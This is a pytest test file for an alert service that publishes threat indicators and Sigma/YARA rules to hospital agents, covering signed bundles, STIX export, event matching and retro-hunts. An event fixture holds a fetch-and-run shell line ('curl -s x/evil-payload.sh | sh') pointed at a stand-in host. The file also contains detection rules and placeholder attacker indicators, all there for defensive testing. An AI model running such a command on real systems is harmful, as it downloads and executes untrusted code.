"""Alerts over real HTTP: publication with validation, targets, acknowledgements, the signed
bundle agents fetch, the STIX export, indicators and rules on arriving events, retro-hunts."""

from __future__ import annotations

import base64
import os
import re
import stat
import sys
import time
import uuid
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import FrameType
from typing import Any

import pytest
import sqlalchemy

import detection
from api.events.sqlite_store import SQLiteEventStore
from detection.bundle import BundleSignatureError, verify_bundle
from tests.api.conftest import Service, tagged_operations_missing
from tests.api.test_agents import enrolled, new_token
from tests.api.test_ingest import post
from tests.api.test_service import BORDEAUX, CORTE, PITIE, setup_world

SIGMA_RULE = """title: Payload fetched from the campaign's server
id: 5d1f0a52-3c1e-4b7a-9a57-0c9a3f7e2b11
status: experimental
logsource: {product: linux, category: process_creation}
level: high
detection:
  selection: {process.command_line|contains: 'evil-payload.sh'}
  condition: selection
"""
SIGMA_ID = "5d1f0a52-3c1e-4b7a-9a57-0c9a3f7e2b11"


def fresh_rule(text: str = SIGMA_RULE) -> str:
    """`text` with an id of its own: a rule id belongs to one alert."""
    return text.replace(SIGMA_ID, str(uuid.uuid4()))


YARA_RULE = 'rule campaign_dropper { strings: $a = "drop-it-now" condition: $a }'
C2_IP = "203.0.113.66"
C2_DOMAIN = "evil-domain.example"
SHA256 = "a" * 64


def alert_body(**changes: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "title": "Ransomware campaign against PACS servers",
        "description": "Exploitation of a PACS web console, then ransomware.",
        "severity": "high",
        "tlp": "amber",
        "products": ["PACS Viewer 7"],
        "cves": ["cve-2026-12345"],
        "indicators": [
            {"type": "ip", "value": C2_IP},
            {"type": "domain", "value": C2_DOMAIN.upper()},
            {"type": "url", "value": "https://evil-domain.example/drop?id=1"},
            {"type": "sha256", "value": SHA256.upper()},
            {"type": "md5", "value": "d41d8cd98f00b204e9800998ecf8427e"},
        ],
        "sigma_rules": [SIGMA_RULE],
        "yara_rules": [YARA_RULE],
        "target": {"all": True},
        "retro_hunt_days": 0,
    }
    body.update(changes)
    return body


def publish(service: Service, bearer: str, **changes: Any) -> dict[str, Any]:
    with service.client(bearer) as client:
        answer = client.post("/alerts", json=alert_body(**changes))
    assert answer.status_code == 201, answer.text
    return dict(answer.json())


def world(service: Service) -> dict[str, str]:
    """Pitié (CHU, Île-de-France), Bordeaux (CHU, Nouvelle-Aquitaine), Corte (EHPAD, Corse)."""
    tokens = setup_world(service)
    with service.client(tokens["admin"]) as client:
        made = client.post(
            "/establishments", json={"finess": CORTE, "name": "Corte", "kind": "EHPAD"}
        )
        assert made.status_code == 201, made.text
    return tokens


def agent_of(service: Service, tokens: dict[str, str], finess: str) -> str:
    token = new_token(service, tokens["admin"], finess)["token"]
    return str(enrolled(service, token, f"collect-{finess}")["agent_key"])


# Publication, validation, reading ---------------------------------------------------------------


def test_publish_normalises_and_everyone_reads_it(service: Service) -> None:
    tokens = world(service)
    alert = publish(service, tokens["analyst"])
    assert alert["status"] == "published"
    assert alert["cves"] == ["CVE-2026-12345"]
    assert {(i["type"], i["value"]) for i in alert["indicators"]} == {
        ("ip", C2_IP),
        ("domain", C2_DOMAIN),
        ("url", "https://evil-domain.example/drop?id=1"),
        ("sha256", SHA256),
        ("md5", "d41d8cd98f00b204e9800998ecf8427e"),
    }
    assert alert["bundle_version"] == 1
    assert alert["created_by"] == "analyst"
    assert alert["acknowledged"] == 0
    second = publish(
        service, tokens["admin"], title="Second alert", tlp="clear", sigma_rules=[fresh_rule()]
    )
    assert second["bundle_version"] == 2  # each publication bumps the version
    for reader in ("it_pitie", "inspector", "admin", "analyst"):
        with service.client(tokens[reader]) as client:
            page = client.get("/alerts").json()
            one = client.get(f"/alerts/{alert['id']}")
        assert page["total"] == 2, reader
        assert [a["title"] for a in page["items"]] == ["Second alert", alert["title"]]
        assert one.status_code == 200
        assert one.json()["sigma_rules"] == [SIGMA_RULE]
    with service.client(tokens["it_pitie"]) as client:
        seen = client.get(f"/alerts/{alert['id']}").json()
    # What other establishments did is not an establishment's business.
    assert seen["retro_hunt"] is None
    assert seen["acknowledged"] is None
    assert seen["acknowledgement"] is None


@pytest.mark.parametrize(
    ("change", "where", "reason"),
    [
        ({"indicators": [{"type": "ip", "value": "300.1.2.3"}]}, "indicators", "not an IPv4"),
        ({"indicators": [{"type": "sha256", "value": "ab" * 20}]}, "indicators", "64 hex digits"),
        ({"indicators": [{"type": "md5", "value": "z" * 32}]}, "indicators", "not hexadecimal"),
        ({"indicators": [{"type": "domain", "value": "not a domain"}]}, "indicators", "domain"),
        ({"indicators": [{"type": "url", "value": "javascript:alert(1)"}]}, "indicators", "URL"),
        ({"indicators": [{"type": "email", "value": "a@b.c"}]}, "indicators", "ip"),
        ({"cves": ["CVE-26-1"]}, "cves", "not a CVE id"),
        ({"target": {"regions": ["Atlantis"]}}, "target", "Île-de-France"),
        ({"target": {}}, "target", "everyone"),
        ({"tlp": "white"}, "tlp", "amber+strict"),
        ({"title": "nul \x00 byte"}, "title", "NUL"),  # PostgreSQL would fail the write
    ],
)
def test_bad_values_are_refused_with_the_reason(
    service: Service, change: dict[str, Any], where: str, reason: str
) -> None:
    tokens = setup_world(service)
    with service.client(tokens["analyst"]) as client:
        answer = client.post("/alerts", json=alert_body(**change))
        assert answer.status_code == 422, answer.text
        problems = answer.json()["detail"]
        assert any(where in p["loc"] and reason in p["msg"] for p in problems), problems
        assert client.get("/alerts").json()["total"] == 0


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ({"sigma_rules": ["title: x\n  bad: [yaml"]}, "sigma_rules[0]: not YAML"),
        (
            {"sigma_rules": [SIGMA_RULE, "title: no detection\nid: 1\nlogsource: {product: x}\n"]},
            "sigma_rules[1]",
        ),
        (
            {"sigma_rules": [SIGMA_RULE.replace("id: 5d1f0a52-3c1e-4b7a-9a57-0c9a3f7e2b11\n", "")]},
            "no id",
        ),
        ({"sigma_rules": [SIGMA_RULE, SIGMA_RULE]}, "same id"),
        (
            {"yara_rules": ["rule broken { condition: tru }"]},
            'yara_rules[0]: line 1: undefined identifier "tru"',
        ),
        ({"yara_rules": ["// nothing here"]}, "no YARA rule"),
    ],
)
def test_rules_that_do_not_compile_are_refused(
    service: Service, change: dict[str, Any], reason: str
) -> None:
    tokens = setup_world(service)
    with service.client(tokens["analyst"]) as client:
        answer = client.post("/alerts", json=alert_body(**change))
        assert answer.status_code == 422, answer.text
        assert answer.json()["code"] == "invalid"
        assert reason in answer.json()["detail"]
        assert client.get("/alerts").json()["total"] == 0


def test_establishments_see_only_the_alerts_meant_for_them(service: Service) -> None:
    tokens = world(service)
    everyone = publish(service, tokens["analyst"], title="For everyone")
    idf = publish(
        service,
        tokens["analyst"],
        title="Île-de-France",
        target={"regions": ["Île-de-France"]},
        sigma_rules=[fresh_rule()],
    )
    ehpad = publish(
        service,
        tokens["analyst"],
        title="EHPAD",
        target={"kinds": ["EHPAD"]},
        sigma_rules=[fresh_rule()],
    )
    chu_na = publish(
        service,
        tokens["analyst"],
        title="CHU of Nouvelle-Aquitaine",
        target={"regions": ["Nouvelle-Aquitaine"], "kinds": ["CHU"]},
        sigma_rules=[fresh_rule()],
    )
    with service.client(tokens["it_pitie"]) as client:
        titles = {a["title"] for a in client.get("/alerts").json()["items"]}
        assert titles == {"For everyone", "Île-de-France"}
        for hidden in (ehpad, chu_na):
            answer = client.get(f"/alerts/{hidden['id']}")
            assert answer.status_code == 404
            assert answer.json()["code"] == "not_found"
            assert client.post(f"/alerts/{hidden['id']}/acknowledge", json={}).status_code == 404
            assert client.get(f"/alerts/{hidden['id']}/stix").status_code == 404
        assert client.get(f"/alerts/{idf['id']}").status_code == 200
        assert client.get(f"/alerts/{everyone['id']}").status_code == 200
    with service.client(tokens["inspector"]) as client:
        assert client.get("/alerts").json()["total"] == 4


def test_acknowledgements_per_establishment(service: Service) -> None:
    tokens = world(service)
    alert = publish(service, tokens["analyst"], target={"kinds": ["CHU"]})
    with service.client(tokens["it_pitie"]) as client:
        first = client.post(f"/alerts/{alert['id']}/acknowledge", json={"comment": "patched"})
        assert first.status_code == 200, first.text
        again = client.post(f"/alerts/{alert['id']}/acknowledge", json={"comment": "later"})
        assert again.json() == first.json()  # acknowledged once, the first time counts
        mine = client.get(f"/alerts/{alert['id']}").json()
        assert client.get(f"/alerts/{alert['id']}/acknowledgements").status_code == 403
    assert first.json()["establishment"] == PITIE
    assert first.json()["acknowledged_by"] == "it_pitie"
    assert mine["acknowledgement"]["comment"] == "patched"
    with service.client(tokens["analyst"]) as client:
        report = client.get(f"/alerts/{alert['id']}/acknowledgements").json()
        national = client.get(f"/alerts/{alert['id']}").json()
        # A national reader acknowledges nothing: that is the establishments' word.
        refused = client.post(f"/alerts/{alert['id']}/acknowledge", json={})
    assert refused.status_code == 403
    assert report["targets"] == 2  # the two CHUs, not Corte's EHPAD
    assert [a["establishment"] for a in report["acknowledged"]] == [PITIE]
    assert [p["finess"] for p in report["pending"]] == [BORDEAUX]
    assert national["acknowledged"] == 1


def test_edit_and_withdraw_bump_the_version(service: Service) -> None:
    tokens = world(service)
    alert = publish(service, tokens["analyst"])
    with service.client(tokens["analyst"]) as client:
        edited = client.patch(
            f"/alerts/{alert['id']}",
            json={"severity": "critical", "indicators": [{"type": "ip", "value": "198.51.100.7"}]},
        )
        assert edited.status_code == 200, edited.text
        assert edited.json()["severity"] == "critical"
        assert edited.json()["indicators"] == [{"type": "ip", "value": "198.51.100.7"}]
        assert edited.json()["sigma_rules"] == [SIGMA_RULE]  # untouched
        assert edited.json()["bundle_version"] == alert["bundle_version"] + 1
        bad = client.patch(f"/alerts/{alert['id']}", json={"sigma_rules": ["nope: ["]})
        assert bad.status_code == 422
        withdrawn = client.post(f"/alerts/{alert['id']}/withdraw")
        assert withdrawn.json()["status"] == "withdrawn"
        assert withdrawn.json()["bundle_version"] == alert["bundle_version"] + 2
        again = client.post(f"/alerts/{alert['id']}/withdraw")
        assert again.json()["bundle_version"] == withdrawn.json()["bundle_version"]
        listed = client.get("/alerts", params={"status": "published"}).json()
    assert listed["total"] == 0


def test_human_access_to_alerts_is_audited(service: Service) -> None:
    tokens = world(service)
    alert = publish(service, tokens["analyst"])
    with service.client(tokens["it_pitie"]) as client:
        assert client.get(f"/alerts/{alert['id']}").status_code == 200
        assert client.post(f"/alerts/{alert['id']}/acknowledge", json={}).status_code == 200
    with service.client(tokens["inspector"]) as client:
        assert client.get(f"/alerts/{alert['id']}/stix").status_code == 200
        assert client.get("/alerts").status_code == 200
        entries = client.get("/audit").json()
    seen = {(e["actor"], e["action"], e["target_kind"], e["target_id"]) for e in entries}
    assert ("analyst", "create", "alert", alert["id"]) in seen
    assert ("it_pitie", "read", "alert", alert["id"]) in seen
    assert ("it_pitie", "update", "alert", alert["id"]) in seen
    assert ("inspector", "read", "alert", alert["id"]) in seen
    assert ("inspector", "read", "alert", "*") in seen


def test_migration_matches_the_models(service: Service) -> None:
    """What 0005 created is what the models describe (Alembic finds nothing to change)."""
    from alembic.autogenerate import compare_metadata
    from alembic.migration import MigrationContext

    from api.db import Base
    from api.models import load_all

    load_all()
    engine = sqlalchemy.create_engine(service.settings.database_url)
    with engine.connect() as connection:
        differences = compare_metadata(MigrationContext.configure(connection), Base.metadata)
        version = connection.execute(
            sqlalchemy.text("SELECT version FROM alert_bundle_state")
        ).all()
    engine.dispose()
    ours = [d for d in differences if "alert" in repr(d)]
    assert not ours, ours
    assert version == [(0,)]


# The signed bundle ------------------------------------------------------------------------------


def test_agents_fetch_a_signed_bundle_of_what_targets_them(service: Service) -> None:
    tokens = world(service)
    with service.client() as client:
        key = client.get("/alerts/bundle/public-key").json()  # no credential: agents pin it
    pinned = base64.b64decode(key["public_key"])
    assert key["algorithm"] == "ed25519"
    assert len(pinned) == 32
    key_file = service.settings.data_dir / "bundle-signing.key"
    assert stat.S_IMODE(os.stat(key_file).st_mode) == 0o600
    assert "PRIVATE KEY" in key_file.read_text()

    everyone = publish(service, tokens["analyst"], title="For everyone")
    publish(
        service,
        tokens["analyst"],
        title="EHPAD only",
        target={"kinds": ["EHPAD"]},
        sigma_rules=[fresh_rule()],
    )
    # Never in a bundle.
    publish(service, tokens["analyst"], title="Red", tlp="red", sigma_rules=[fresh_rule()])
    pitie = agent_of(service, tokens, PITIE)
    with service.client(pitie) as client:
        answer = client.get("/alerts/bundle")
        assert answer.status_code == 200, answer.text
        envelope = answer.json()
        bundle = verify_bundle(envelope, pinned)
        # Pitié's own version: its first bundle (three national changes, one of them for it).
        assert answer.headers["ETag"] == '"1"'
        unchanged = client.get("/alerts/bundle", params={"version": 1})
        assert unchanged.status_code == 304
        assert client.get("/alerts/bundle", headers={"If-None-Match": '"1"'}).status_code == 304
        assert client.get("/alerts/bundle", params={"version": 0}).status_code == 200
        assert client.get(f"/alerts/{everyone['id']}").status_code == 403  # bundle only
    assert bundle["version"] == 1
    assert bundle["establishment"] == PITIE
    assert [a["title"] for a in bundle["alerts"]] == ["For everyone"]
    assert [s["rule"] for s in bundle["sigma"]] == [SIGMA_RULE]
    assert [y["rule"] for y in bundle["yara"]] == [YARA_RULE]
    assert {(i["type"], i["value"]) for i in bundle["indicators"]} >= {("ip", C2_IP)}
    assert {i["alert_id"] for i in bundle["indicators"]} == {everyone["id"]}

    # A bundle changed in transit, or checked against another key, is refused.
    envelope["bundle"]["indicators"].append({"alert_id": "x", "type": "ip", "value": "10.0.0.1"})
    with pytest.raises(BundleSignatureError):
        verify_bundle(envelope, pinned)

    with service.client(agent_of(service, tokens, CORTE)) as client:
        corte = verify_bundle(client.get("/alerts/bundle").json(), pinned)
    assert [a["title"] for a in corte["alerts"]] == ["For everyone", "EHPAD only"]
    with service.client(tokens["analyst"]) as client:
        assert client.get("/alerts/bundle").status_code == 403  # humans read alerts instead
        assert client.post(f"/alerts/{everyone['id']}/withdraw").status_code == 200
    with service.client(pitie) as client:
        after = client.get("/alerts/bundle", params={"version": 1})
    assert after.status_code == 200  # the withdrawal is a new version
    assert verify_bundle(after.json(), pinned)["alerts"] == []
    assert verify_bundle(after.json(), pinned)["version"] == 2


def test_the_signing_key_survives_a_restart(service: Service) -> None:
    from api.alerts.signing import BundleSigner

    with service.client() as client:
        served = client.get("/alerts/bundle/public-key").json()
    again = BundleSigner.in_data_dir(service.settings.data_dir).public()
    assert again == served


# STIX 2.1 ---------------------------------------------------------------------------------------

STIX_ID = re.compile(r"^[a-z0-9-]+--[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$")
TLP2_AMBER = "marking-definition--55d920b0-5e8b-4f79-9ee9-91f868d9b421"


def test_stix_export_is_a_valid_stix_21_bundle(service: Service) -> None:
    from stix2patterns.validator import run_validator

    tokens = world(service)
    alert = publish(
        service,
        tokens["analyst"],
        indicators=[
            *alert_body()["indicators"],
            {"type": "ip", "value": "2001:DB8::1"},
            {"type": "url", "value": "http://evil-domain.example/it's"},
        ],
    )
    with service.client(tokens["it_pitie"]) as client:
        answer = client.get(f"/alerts/{alert['id']}/stix")
    assert answer.status_code == 200, answer.text
    bundle = answer.json()
    assert bundle["type"] == "bundle"
    assert STIX_ID.match(bundle["id"])
    objects = bundle["objects"]
    by_type: dict[str, list[dict[str, Any]]] = {}
    for obj in objects:
        assert STIX_ID.match(obj["id"]), obj["id"]
        assert obj["id"].startswith(obj["type"] + "--")
        assert obj["spec_version"] == "2.1"
        by_type.setdefault(obj["type"], []).append(obj)
    (marking,) = by_type["marking-definition"]
    assert marking["id"] == TLP2_AMBER
    assert marking["name"] == "TLP:AMBER"
    (identity,) = by_type["identity"]
    (report,) = by_type["report"]
    patterns = {o["pattern"] for o in by_type["indicator"] if o["pattern_type"] == "stix"}
    assert patterns == {
        f"[ipv4-addr:value = '{C2_IP}']",
        "[ipv6-addr:value = '2001:db8::1']",
        f"[domain-name:value = '{C2_DOMAIN}']",
        "[url:value = 'https://evil-domain.example/drop?id=1']",
        "[url:value = 'http://evil-domain.example/it\\'s']",
        f"[file:hashes.'SHA-256' = '{SHA256}']",
        "[file:hashes.MD5 = 'd41d8cd98f00b204e9800998ecf8427e']",
    }
    for text in patterns:
        assert run_validator(text, stix_version="2.1") == [], text
    assert {o["pattern_type"] for o in by_type["indicator"]} == {"stix", "sigma", "yara"}
    (vulnerability,) = by_type["vulnerability"]
    assert vulnerability["external_references"] == [
        {"source_name": "cve", "external_id": "CVE-2026-12345"}
    ]
    others = [o for o in objects if o["type"] not in ("marking-definition", "identity", "report")]
    assert set(report["object_refs"]) == {o["id"] for o in others}
    for obj in others + [report]:
        assert obj["created_by_ref"] == identity["id"]
        assert obj["object_marking_refs"] == [TLP2_AMBER]
    assert "PACS Viewer 7" in report["description"]

    # The OASIS reference library reads it back, strictly (no custom content allowed).
    import stix2

    parsed = stix2.parse(bundle, allow_custom=False)
    assert len(parsed.objects) == len(objects)
    # Same alert, same objects: a consumer updates instead of piling up duplicates.
    with service.client(tokens["analyst"]) as client:
        again = client.get(f"/alerts/{alert['id']}/stix").json()
    assert [o["id"] for o in again["objects"]] == [o["id"] for o in objects]


# Indicators and rules on arriving events --------------------------------------------------------


def _ago(days: float) -> str:
    return (datetime.now(UTC) - timedelta(days=days)).isoformat().replace("+00:00", "Z")


def _events(days: float, tag: str) -> list[dict[str, Any]]:
    """One event per way of meeting the alert, one that meets nothing."""
    ts = _ago(days)
    return [
        {
            "@timestamp": ts,
            "source": {"ip": "10.1.2.3"},
            "destination": {"ip": C2_IP},
            "event": {"category": ["network"]},
            "labels": {"tag": tag},
        },
        {
            "@timestamp": ts,
            "dns": {"question": {"name": f"cdn.{C2_DOMAIN}"}},
            "labels": {"tag": tag},
        },
        {
            "@timestamp": ts,
            "process": {"command_line": "sh -c 'curl -s x/evil-payload.sh | sh'"},
            "labels": {"tag": tag},
        },
        {"@timestamp": ts, "file": {"hash": {"sha256": SHA256}}, "labels": {"tag": tag}},
        {
            "@timestamp": ts,
            "dns": {"question": {"name": "notevil-domain.example"}},
            "destination": {"ip": "203.0.113.67"},
            "labels": {"tag": tag},
        },
    ]


def _ingest(service: Service, key: str, batch_id: str, events: list[dict[str, Any]]) -> Any:
    batch = {"batch_id": f"batch-{batch_id}", "events": events, "detections": []}
    answer = post(service, key, batch)
    assert answer.status_code == 200, answer.text
    return answer.json()


def test_arriving_events_meet_published_indicators_and_rules(service: Service) -> None:
    tokens = world(service)
    key = agent_of(service, tokens, PITIE)
    before = _ingest(service, key, "before", _events(0, "before"))
    assert before["server_detections"] == 0
    alert = publish(service, tokens["analyst"])
    after = _ingest(service, key, "after", _events(0, "after"))  # no wait: same process
    assert after["server_detections"] == 4
    store = SQLiteEventStore.in_data_dir(service.settings.data_dir)
    try:
        found = store.search_detections(establishment=PITIE, limit=50)
    finally:
        store.close()
    indicator = [d for d in found if d["engine"] == "indicator"]
    sigma = [d for d in found if d["rule_id"] == "5d1f0a52-3c1e-4b7a-9a57-0c9a3f7e2b11"]
    assert len(indicator) == 3
    assert {d["rule_id"] for d in indicator} == {f"indicator:{alert['id']}"}
    assert {d["rule_title"] for d in indicator} == {alert["title"]}
    assert {d["level"] for d in indicator} == {"high"}
    assert {d["event"]["labels"]["tag"] for d in indicator + sigma} == {"after"}
    matched = {
        (m["type"], m["value"], m["field"]) for d in indicator for m in d["meta"]["indicators"]
    }
    assert matched == {
        ("ip", C2_IP, "destination.ip"),
        ("domain", C2_DOMAIN, "dns.question.name"),  # a subdomain of the indicator
        ("sha256", SHA256, "file.hash.sha256"),
    }
    assert len(sigma) == 1
    assert sigma[0]["event"]["process"]["command_line"].endswith("| sh'")

    with service.client(tokens["analyst"]) as client:
        assert client.post(f"/alerts/{alert['id']}/withdraw").status_code == 200
    withdrawn = _ingest(service, key, "withdrawn", _events(0, "withdrawn"))
    assert withdrawn["server_detections"] == 0


def test_another_service_process_converges_on_the_published_version(service: Service) -> None:
    """A second process on the same database sees a publication within a few seconds."""
    from api.alerts.live import CHECK_EVERY, LiveRules
    from api.db import make_engine, session_factory
    from detection.event import Event

    engine = make_engine(service.settings.database_url)
    other = LiveRules(service.settings, session_factory(engine))
    try:
        assert other.engines()[1] is None
        assert other.version == 0
        tokens = world(service)
        alert = publish(service, tokens["analyst"])
        deadline = time.monotonic() + CHECK_EVERY + 5
        while other.engines()[1] is None and time.monotonic() < deadline:
            time.sleep(0.2)
        assert other.version == alert["bundle_version"]
        sigma, matcher = other.engines()
        assert matcher is not None
        assert sigma is not None
        event = Event(datetime.now(UTC), {"destination": {"ip": C2_IP}}, source="t")
        (hit,) = matcher.match([event])
        assert hit["rule_id"] == f"indicator:{alert['id']}"
        assert "5d1f0a52-3c1e-4b7a-9a57-0c9a3f7e2b11" in {r.id for r in sigma.ruleset.rules}
    finally:
        engine.dispose()


def test_indicator_matcher_looks_up_fields_not_indicators() -> None:
    from detection.event import Event
    from detection.indicators import AlertIndicators, IndicatorMatcher

    many = [("ip", f"10.{n // 65536}.{n // 256 % 256}.{n % 256}") for n in range(50_000)]
    campaign = AlertIndicators(
        "a2",
        "Campaign",
        "critical",
        (
            ("ip", "2001:db8::1"),
            ("domain", "evil.example"),
            ("md5", "0" * 32),
            ("url", "http://evil.example/x"),
        ),
    )
    matcher = IndicatorMatcher([AlertIndicators("a1", "Many IPs", "low", tuple(many)), campaign])
    now = datetime.now(UTC)

    def hits(fields: dict[str, Any]) -> set[tuple[str, str]]:
        found = matcher.match([Event(now, fields, source="t")])
        return {(d["rule_id"], d["level"]) for d in found}

    assert hits({"related": {"ip": ["192.0.2.1", "10.0.1.44"]}}) == {("indicator:a1", "low")}
    assert hits({"source": {"ip": "2001:DB8:0::1"}}) == {("indicator:a2", "critical")}
    assert hits({"url": {"domain": "a.b.EVIL.example."}}) == {("indicator:a2", "critical")}
    assert hits({"url": {"domain": "notevil.example"}}) == set()
    assert hits({"url": {"original": "http://evil.example/x"}}) == {("indicator:a2", "critical")}
    sysmon = {
        "winlog": {
            "channel": "Microsoft-Windows-Sysmon/Operational",
            "event_id": 1,
            "event_data": {"Hashes": f"SHA1={'1' * 40},MD5={'0' * 32}"},
        }
    }
    assert hits(sysmon) == {("indicator:a2", "critical")}
    assert hits({"destination": {"ip": "not an ip"}, "message": "10.0.0.1"}) == set()
    # 50,000 indicators cost a lookup per field value, not a loop over them: matching runs the
    # very same lines of detection/ as against a single indicator (counted, not timed).
    few = IndicatorMatcher([AlertIndicators("a1", "One IP", "low", (many[0],)), campaign])

    def lines_run(against: IndicatorMatcher) -> int:
        events = [
            Event(now, {"destination": {"ip": f"192.0.2.{n % 250}"}}, source="t")
            for n in range(500)
        ]
        assert against.match(events) == []
        return _lines_run_in_detection(lambda: against.match(events))

    assert lines_run(matcher) == lines_run(few) > 0


def _lines_run_in_detection(work: Callable[[], object]) -> int:
    """How many lines of detection/'s Python `work` runs: a measure of work done that no load on
    the machine changes."""
    folder = str(Path(detection.__file__).parent)
    count = 0

    def tracer(frame: FrameType, event: str, _: object) -> Any:
        nonlocal count
        if not frame.f_code.co_filename.startswith(folder):
            return None
        if event == "line":
            count += 1
        return tracer

    sys.settrace(tracer)
    try:
        work()
    finally:
        sys.settrace(None)
    return count


# Retro-hunts ------------------------------------------------------------------------------------

KEYWORD_RULE = """title: Keywords only
id: 0e4c8f0a-7d1b-4a59-8c3e-2f6b9d1a0c77
status: experimental
logsource: {product: linux}
detection:
  keywords: ['evil-payload']
  condition: keywords
"""


def _hunted(service: Service, bearer: str, alert_id: str) -> dict[str, Any]:
    deadline = time.monotonic() + 30
    with service.client(bearer) as client:
        while True:
            outcome = client.get(f"/alerts/{alert_id}/retro-hunt").json()
            if outcome["status"] in ("done", "failed") or time.monotonic() > deadline:
                return dict(outcome)
            time.sleep(0.1)


def test_publication_hunts_stored_events_and_opens_incidents(service: Service) -> None:
    tokens = world(service)
    _ingest(
        service, agent_of(service, tokens, PITIE), "p-1", _events(1, "recent") + _events(40, "old")
    )
    _ingest(service, agent_of(service, tokens, BORDEAUX), "b-1", _events(2, "recent"))
    body = alert_body(sigma_rules=[SIGMA_RULE, KEYWORD_RULE], retro_hunt_days=30)
    with service.client(tokens["analyst"]) as client:
        made = client.post("/alerts", json=body)
    assert made.status_code == 201, made.text
    alert = made.json()
    assert alert["retro_hunt"]["status"] in ("pending", "running", "done")
    outcome = _hunted(service, tokens["analyst"], alert["id"])
    assert outcome["status"] == "done", outcome
    assert outcome["days"] == 30
    rules = {r["rule_id"]: r for r in outcome["rules"]}
    assert rules["5d1f0a52-3c1e-4b7a-9a57-0c9a3f7e2b11"]["hits"] == 2
    assert rules["5d1f0a52-3c1e-4b7a-9a57-0c9a3f7e2b11"]["error"] is None
    # The SQLite store cannot hunt keywords: said for that rule, the others still ran.
    assert "keywords" in rules["0e4c8f0a-7d1b-4a59-8c3e-2f6b9d1a0c77"]["error"]
    (indicators,) = [r for r in outcome["rules"] if r["kind"] == "indicators"]
    assert indicators["hits"] == 6  # 3 recent events in each establishment, none of 40 days ago
    assert outcome["hits_by_establishment"] == {PITIE: 4, BORDEAUX: 4}
    assert set(outcome["incidents"]) == {PITIE, BORDEAUX}
    assert outcome["incidents_opened"] >= 2
    with service.client(tokens["analyst"]) as client:
        listed = client.get("/incidents", params={"limit": 500}).json()["items"]
    opened = [i for i in listed if i["origin"] == "retro-hunt"]
    assert {i["establishment"] for i in opened} == {PITIE, BORDEAUX}
    assert {i["id"] for i in opened} == {x for ids in outcome["incidents"].values() for x in ids}
    assert f"indicator:{alert['id']}" in {i["rule_id"] for i in opened}
    with service.client(tokens["it_pitie"]) as client:
        assert client.get(f"/alerts/{alert['id']}/retro-hunt").status_code == 403
        theirs = client.get("/incidents", params={"limit": 500}).json()["items"]
    assert {i["establishment"] for i in theirs} == {PITIE}

    # Hunting again over a shorter window finds only what is in it.
    with service.client(tokens["analyst"]) as client:
        again = client.post(f"/alerts/{alert['id']}/retro-hunt", json={"days": 1})
        assert again.status_code == 202, again.text
        with service.client(tokens["inspector"]) as auditor:
            assert auditor.post(f"/alerts/{alert['id']}/retro-hunt", json={}).status_code == 403
    narrow = _hunted(service, tokens["analyst"], alert["id"])
    assert narrow["status"] == "done", narrow
    assert narrow["days"] == 1
    assert narrow["hits_by_establishment"] == {}


def test_no_hunt_when_asked_for_none(service: Service) -> None:
    tokens = world(service)
    alert = publish(service, tokens["analyst"], retro_hunt_days=0)
    assert alert["retro_hunt"] is None
    with service.client(tokens["analyst"]) as client:
        assert client.get(f"/alerts/{alert['id']}/retro-hunt").json() == {"status": "none"}


# The access matrix of the alert endpoints -------------------------------------------------------

ROLES = ("it_pitie", "analyst", "inspector", "admin", "agent", "anonymous")


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_alert_access_matrix(service: Service) -> None:
    tokens = world(service)
    tokens["agent"] = agent_of(service, tokens, PITIE)
    tokens["anonymous"] = ""
    mine = publish(service, tokens["analyst"], title="Pitié's")
    other = publish(
        service,
        tokens["analyst"],
        title="Not Pitié's",
        target={"kinds": ["EHPAD"]},
        sigma_rules=[fresh_rule()],
    )
    spare = publish(service, tokens["analyst"], title="To withdraw", sigma_rules=[fresh_rule()])
    human = {"it_pitie": 200, "analyst": 200, "inspector": 200, "admin": 200}
    national = {**human, "it_pitie": 403}
    writers = {**national, "inspector": 403}
    machine = {"agent": 403, "anonymous": 401}
    a, o, s = mine["id"], other["id"], spare["id"]
    matrix: list[tuple[str, str, Any, dict[str, int]]] = [
        (
            "GET",
            "/alerts/bundle",
            None,
            {**dict.fromkeys(human, 403), "agent": 200, "anonymous": 401},
        ),
        ("GET", "/alerts/bundle/public-key", None, dict.fromkeys(ROLES, 200)),
        (
            "POST",
            "/alerts",
            alert_body(retro_hunt_days=0, sigma_rules=[]),
            {**{k: v + 1 if v == 200 else v for k, v in writers.items()}, **machine},
        ),
        ("GET", "/alerts", None, {**human, **machine}),
        ("GET", f"/alerts/{a}", None, {**human, **machine}),
        ("GET", f"/alerts/{o}", None, {**human, "it_pitie": 404, **machine}),
        ("PATCH", f"/alerts/{a}", {"severity": "critical"}, {**writers, **machine}),
        ("POST", f"/alerts/{s}/withdraw", None, {**writers, **machine}),
        (
            "POST",
            f"/alerts/{a}/acknowledge",
            {},
            {**dict.fromkeys(human, 403), "it_pitie": 200, **machine},
        ),
        (
            "POST",
            f"/alerts/{o}/acknowledge",
            {},
            {**dict.fromkeys(human, 403), "it_pitie": 404, **machine},
        ),
        ("GET", f"/alerts/{a}/acknowledgements", None, {**national, **machine}),
        ("GET", f"/alerts/{a}/retro-hunt", None, {**national, **machine}),
        (
            "POST",
            f"/alerts/{a}/retro-hunt",
            {"days": 1},
            {**{k: 202 if v == 200 else v for k, v in writers.items()}, **machine},
        ),
        ("GET", f"/alerts/{a}/stix", None, {**human, **machine}),
        ("GET", f"/alerts/{o}/stix", None, {**human, "it_pitie": 404, **machine}),
    ]
    failures = []
    for method, path, body, expected in matrix:
        assert set(expected) == set(ROLES), f"{method} {path}: every role is stated"
        for role, status in expected.items():
            with service.client(tokens[role] or None) as client:
                answer = client.request(method, path, json=body)
            if answer.status_code != status:
                failures.append(f"{role} {method} {path}: {answer.status_code}, expected {status}")
    assert not failures, "\n".join(failures)
    count, missing = tagged_operations_missing(service, "alerts", matrix)
    assert count == 12
    assert not missing, "\n".join(missing)
